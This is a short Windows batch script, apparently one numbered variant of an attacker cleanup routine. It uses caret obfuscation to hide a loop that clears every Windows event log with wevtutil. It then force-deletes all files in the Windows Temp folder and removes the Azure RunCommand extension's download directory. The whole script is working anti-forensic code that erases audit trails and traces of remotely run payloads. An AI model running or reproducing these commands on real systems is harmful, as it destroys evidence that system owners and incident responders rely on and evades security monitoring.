REM run 7293 v0
^fo^r /F "tokens=*" %%1 ^i^n ('^w^ev^tut^il.ex^e el') D^O w^e^v^t^ut^il.ex^e cl "%%1"
@echo off
set znwy=del /f /q C:\Windows\Temp\*.*
call %znwy%
@echo off
set yuec=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads
call %yuec%
